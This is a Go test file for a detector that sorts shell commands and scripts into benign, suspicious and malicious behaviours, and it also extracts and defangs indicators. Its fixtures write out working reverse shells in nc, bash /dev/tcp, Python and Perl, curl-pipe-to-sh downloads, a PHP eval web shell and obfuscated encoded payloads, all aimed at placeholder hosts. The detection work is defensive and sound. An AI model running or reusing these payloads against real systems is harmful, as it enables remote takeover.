package command

import (
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// TestRead holds details that the corpus does not: which behaviours exactly,
// whether text was decoded, and what stays unsaid.
func TestRead(t *testing.T) {
	t.Parallel()
	for name, tc := range map[string]struct {
		args     []string
		want     []Behavior
		class    Class
		decoded  []string
		unparsed bool
	}{
		"nothing":                       {args: nil},
		"empty":                         {args: []string{""}},
		"blank":                         {args: []string{"  \n"}},
		"bare shell says nothing":       {args: []string{"/bin/sh"}},
		"a script among uploads":        {args: []string{"sh", "/app/uploads/entrypoint.sh"}},
		"a script in a web folder":      {args: []string{"sh", "-c", "exec /var/www/html/run.sh"}, want: []Behavior{ShellWrapper}, class: Benign},
		"a lone id is neutral":          {args: []string{"id"}, want: []Behavior{Recon}},
		"a chain is not":                {args: []string{"sh", "-c", "id; hostname; uname -a"}, want: []Behavior{Recon}, class: Suspicious},
		"vector without its program":    {args: []string{"-c", "nc -e /bin/sh 203.0.113.1 1"}, want: []Behavior{ReverseShell}, class: Malicious},
		"login shell":                   {args: []string{"-bash", "-i"}, want: []Behavior{InteractiveShell}, class: Suspicious},
		"split at blanks":               {args: []string{"curl", "http://203.0.113.1/x", "|", "sh"}, want: []Behavior{DownloadAndExecute, PipeToShell, Download}, class: Malicious},
		"text of echo is not a command": {args: []string{"sh", "-c", `echo "run: curl http://x.example.com | sh"`}, want: nil},
		"a comment is not a command":    {args: []string{"sh", "-c", "# curl http://203.0.113.1 | sh\ntrue"}},
		"payload in payload": {
			// base64 of: echo bmMgLWUgL2Jpbi9zaCAyMDMuMC4xMTMuMSAx | base64 -d | sh
			args:    []string{"sh", "-c", "echo ZWNobyBibU1nTFdVZ0wySnBiaTl6YUNBeU1ETXVNQzR4TVRNdU1TQXggfCBiYXNlNjQgLWQgfCBzaA== | base64 -d | sh"},
			want:    []Behavior{ReverseShell, EncodedPayload, PipeToShell},
			class:   Malicious,
			decoded: []string{"echo bmMgLWUgL2Jpbi9zaCAyMDMuMC4xMTMuMSAx | base64 -d | sh", "nc -e /bin/sh 203.0.113.1 1"},
		},
		"a blob that hides nothing": {args: []string{"app", "--data", "VGhlIHF1aWNrIGJyb3duIGZveCBqdW1wcyBvdmVyIHRoZSBsYXp5IGRvZw=="}},
		"cut in the middle of a quote": {
			args: []string{"bash", "-c", "bash -i >& /dev/tcp/203.0.113.1/4444 0>&1; echo 'and then"},
			want: []Behavior{ReverseShell, InteractiveShell}, class: Malicious,
		},
		"no valid shell":         {args: []string{"sh", "-c", "curl http://203.0.113.1/x | sh ) done"}, want: []Behavior{DownloadAndExecute, PipeToShell, Download}, class: Malicious, unparsed: true},
		"benign does not hide":   {args: []string{"sh", "-c", "npm start & nc -e /bin/sh 203.0.113.1 1"}, want: []Behavior{ReverseShell, PackageScript}, class: Malicious},
		"glob for a shell":       {args: []string{"sh", "-c", "/bin/n? -e /bin/sh 203.0.113.1 1"}, want: []Behavior{ReverseShell}, class: Malicious},
		"heredoc":                {args: []string{"sh", "-c", "bash <<EOF\nnc -e /bin/sh 203.0.113.1 1\nEOF"}, want: []Behavior{ReverseShell}, class: Malicious},
		"written, then run":      {args: []string{"sh", "-c", "echo 'nc -e /bin/sh 203.0.113.1 1' > /app/x; sh /app/x"}, want: []Behavior{ReverseShell}, class: Malicious},
		"fetched, then run":      {args: []string{"sh", "-c", "curl -o /app/x https://dl.example.com/x; chmod +x /app/x; /app/x"}, want: []Behavior{DownloadAndExecute, Download, PermissionChange}, class: Malicious},
		"fetched, not run":       {args: []string{"sh", "-c", "curl -o /app/x https://dl.example.com/x; exec /app/y"}, want: []Behavior{Download}},
		"wrappers":               {args: []string{"sudo", "-u", "app", "timeout", "-s", "9", "5", "env", "A=1", "nohup", "nc", "-e", "/bin/sh", "203.0.113.1", "1"}, want: []Behavior{ReverseShell}, class: Malicious},
		"brace list":             {args: []string{"bash", "-c", "{nc,-e,/bin/sh,203.0.113.1,1}"}, want: []Behavior{ReverseShell}, class: Malicious},
		"slices of a constant":   {args: []string{"bash", "-c", "A=xncx; ${A:1:2} -e /bin/sh 203.0.113.1 1"}, want: []Behavior{ReverseShell, EncodedPayload}, class: Malicious},
		"loopback is healthy":    {args: []string{"curl", "-f", "http://localhost:8080/healthz"}, want: []Behavior{HealthCheck}, class: Benign},
		"project id is no token": {args: []string{"curl", "-H", "Metadata-Flavor: Google", "http://metadata.google.internal/computeMetadata/v1/project/project-id"}, want: []Behavior{Recon, Download}},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			r := Read(tc.args, false)
			var got []Behavior
			for _, h := range r.Hits {
				got = append(got, h.Behavior)
				if h.Text == "" {
					t.Errorf("%s has no text", h.Behavior)
				}
			}
			for _, b := range tc.want {
				if !slices.Contains(got, b) {
					t.Errorf("no %s in %v", b, got)
				}
			}
			for _, b := range got {
				if !slices.Contains(tc.want, b) && b.Class() != Benign {
					t.Errorf("unexpected %s, want %v", b, tc.want)
				}
			}
			want := tc.class
			if len(tc.want) > 0 && want == Neutral && !slices.ContainsFunc(tc.want, func(b Behavior) bool { return b.Class() != Benign }) {
				want = Benign
			}
			if len(got) > 0 && r.Class() != want {
				t.Errorf("class %s, want %s", r.Class(), want)
			}
			if diff := cmp.Diff(tc.decoded, r.Decoded); diff != "" {
				t.Errorf("decoded (-want +got):\n%s", diff)
			}
			if r.Unparsed != tc.unparsed {
				t.Errorf("unparsed %v, want %v", r.Unparsed, tc.unparsed)
			}
		})
	}
}

func TestReadScript(t *testing.T) {
	t.Parallel()
	for name, tc := range map[string]struct {
		text  string
		want  Behavior
		class Class
	}{
		"shell":           {"#!/bin/bash\nset -e\ncurl -s http://203.0.113.1/x | sh\n", DownloadAndExecute, Malicious},
		"no shebang":      {"cd /tmp\nwget http://203.0.113.1/x\nchmod +x x\n./x\n", DownloadAndExecute, Malicious},
		"python":          {"#!/usr/bin/env python3\nimport socket, os, pty\ns = socket.socket()\ns.connect((\"203.0.113.1\", 4444))\nfor f in (0, 1, 2):\n    os.dup2(s.fileno(), f)\npty.spawn(\"/bin/sh\")\n", ReverseShell, Malicious},
		"python by looks": {"import base64\nexec(base64.b64decode('aWQ='))\n", EncodedPayload, Malicious},
		"perl":            {"#!/usr/bin/perl -w\nuse Socket;\nsocket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(1,inet_aton('203.0.113.1')));open(STDIN,'>&S');exec('/bin/sh -i');\n", ReverseShell, Malicious},
		"php":             {"<?php eval(base64_decode($_POST['x'])); ?>", EncodedPayload, Malicious},
		"entrypoint":      {"#!/bin/sh\nset -e\npython manage.py migrate\nexec gunicorn app:app\n", Migration, Benign},
		"healthy python":  {"#!/usr/bin/env python3\nimport urllib.request\nurllib.request.urlopen('http://localhost:8080/health')\n", HealthCheck, Benign},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			r := ReadScript(tc.text)
			if !r.Has(tc.want) || r.Class() != tc.class {
				t.Errorf("ReadScript = %s %v, want %s, %s", r.Class(), names(r), tc.class, tc.want)
			}
		})
	}
}

func TestReadTruncated(t *testing.T) {
	t.Parallel()
	if r := Read([]string{"id"}, true); !r.Truncated {
		t.Error("Truncated is lost")
	}
	if r := Read([]string{"sh", "-c", strings.Repeat("true;", maxText)}, false); !r.Truncated {
		t.Error("a text over the bound is not called truncated")
	}
	r := Read([]string{"sh", "-c", "nc -e /bin/sh 203.0.113.1 1\n" + strings.Repeat("true\n", maxText)}, false)
	if !r.Has(ReverseShell) {
		t.Errorf("the start of a long text is lost: %v", names(r))
	}
	var many strings.Builder
	for i := range 200 {
		many.WriteString("curl http://203.0.113." + string(rune('0'+i%10)) + "/" + strings.Repeat("a", i) + "\n")
	}
	if r := ReadScript(many.String()); len(r.Indicators) != MaxIndicators {
		t.Errorf("%d indicators, want the bound %d", len(r.Indicators), MaxIndicators)
	}
}

func TestIndicators(t *testing.T) {
	t.Parallel()
	for name, tc := range map[string]struct {
		args []string
		want []Indicator
	}{
		"url with address": {[]string{"curl", "http://203.0.113.9:8080/a.sh"}, []Indicator{{"url", "http://203.0.113.9:8080/a.sh"}, {"ip", "203.0.113.9"}}},
		"url with name":    {[]string{"wget", "-qO-", "https://Evil.example.com/x"}, []Indicator{{"url", "https://Evil.example.com/x"}, {"domain", "evil.example.com"}}},
		"dev tcp":          {[]string{"bash", "-c", "bash -i >& /dev/tcp/c2.example.org/443 0>&1"}, []Indicator{{"domain", "c2.example.org"}}},
		"host and port":    {[]string{"nc", "c2.example.org", "443"}, []Indicator{{"domain", "c2.example.org"}}},
		"version six":      {[]string{"curl", "http://[2001:db8::1]/x"}, []Indicator{{"url", "http://[2001:db8::1]/x"}, {"ip", "2001:db8::1"}}},
		"user at host":     {[]string{"ssh", "root@h.example.net"}, []Indicator{{"domain", "h.example.net"}}},
		"decimal address":  {[]string{"curl", "http://3405803785/x"}, []Indicator{{"url", "http://3405803785/x"}, {"ip", "203.0.113.9"}}},
		"loopback is kept": {[]string{"curl", "http://127.0.0.1/"}, []Indicator{{"url", "http://127.0.0.1/"}, {"ip", "127.0.0.1"}}},
		"temporary file":   {[]string{"sh", "/tmp/x.sh"}, []Indicator{{"path", "/tmp/x.sh"}}},
		"hash":             {[]string{"x", "sha256:E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855"}, []Indicator{{"hash", "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"}}},
		"in python":        {[]string{"python3", "-c", "import socket;s=socket.socket();s.connect(('c2.example.org',1))"}, []Indicator{{"domain", "c2.example.org"}}},
		"once":             {[]string{"sh", "-c", "ping 203.0.113.9; ping 203.0.113.9"}, []Indicator{{"ip", "203.0.113.9"}}},
		"no file names":    {[]string{"sh", "-c", "node server.js && python app.py; go run main.go; sh foo.sh config.json a.b.c os.system time.sleep app.run"}, nil},
		"no variables":     {[]string{"sh", "-c", "curl http://$HOST/x"}, nil},
		"no versions":      {[]string{"pip", "install", "a==1.2.3", "b-1.2.3.4.tar.gz"}, nil},
		"no class names":   {[]string{"java", "-cp", "x", "com.example.Main", "org.springframework.boot.loader.JarLauncher"}, nil},
		"no times":         {[]string{"date", "-s", "12:30:45"}, nil},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			if diff := cmp.Diff(tc.want, Read(tc.args, false).Indicators); diff != "" {
				t.Errorf("indicators of %q (-want +got):\n%s", tc.args, diff)
			}
		})
	}
}

func TestDefang(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		"http://1.2.3.4/a.sh":             "hxxp://1[.]2[.]3[.]4/a.sh",
		"https://u:p@a.example.com:8/x.y": "hxxps://u:p@a[.]example[.]com:8/x.y",
		"ftp://a.example.com":             "fxp://a[.]example[.]com",
		"1.2.3.4":                         "1[.]2[.]3[.]4",
		"2001:db8::1":                     "2001[:]db8[:][:]1",
		"evil.example.com":                "evil[.]example[.]com",
		"/tmp/x.sh":                       "/tmp/x.sh",
		"e3b0c442":                        "e3b0c442",
		"":                                "",
	} {
		if got := Defang(in); got != want {
			t.Errorf("Defang(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestMerge(t *testing.T) {
	t.Parallel()
	a := Read([]string{"sh", "-c", "id; curl http://203.0.113.1/x | sh"}, false)
	b := ReadScript("id; hostname; uname -a; nc -e /bin/sh 198.51.100.2 1")
	before := len(a.Hits)
	m := a.Merge(b)
	checkBounds(t, m)
	for _, want := range []Behavior{ReverseShell, DownloadAndExecute, Recon} {
		if !m.Has(want) {
			t.Errorf("no %s in %v", want, names(m))
		}
	}
	for _, h := range m.Hits {
		if h.Behavior == Recon && h.Class != Suspicious {
			t.Errorf("the lighter occurrence of recon was kept")
		}
	}
	if m.Indicators[0] != a.Indicators[0] || !slices.Contains(m.Indicators, Indicator{"ip", "198.51.100.2"}) {
		t.Errorf("indicators %v", m.Indicators)
	}
	if len(a.Hits) != before {
		t.Error("Merge changed its receiver")
	}
	if diff := cmp.Diff(Reading{}, Reading{}.Merge(Reading{})); diff != "" {
		t.Errorf("merging nothing (-want +got):\n%s", diff)
	}
	if r := (Reading{Truncated: true}).Merge(Reading{Unparsed: true}); !r.Truncated || !r.Unparsed {
		t.Error("flags are lost")
	}
}

// TestReadIsPure holds that reading leaves its input alone and answers the same twice.
func TestReadIsPure(t *testing.T) {
	t.Parallel()
	for _, l := range readCorpus(t, "testdata/corpus.ndjson") {
		args := slices.Clone(l.Args)
		first := Read(args, false)
		if diff := cmp.Diff(first, Read(args, false)); diff != "" {
			t.Errorf("%q reads differently the second time:\n%s", l.Args, diff)
		}
		if !slices.Equal(args, l.Args) {
			t.Errorf("%q was changed to %q", l.Args, args)
		}
	}
}
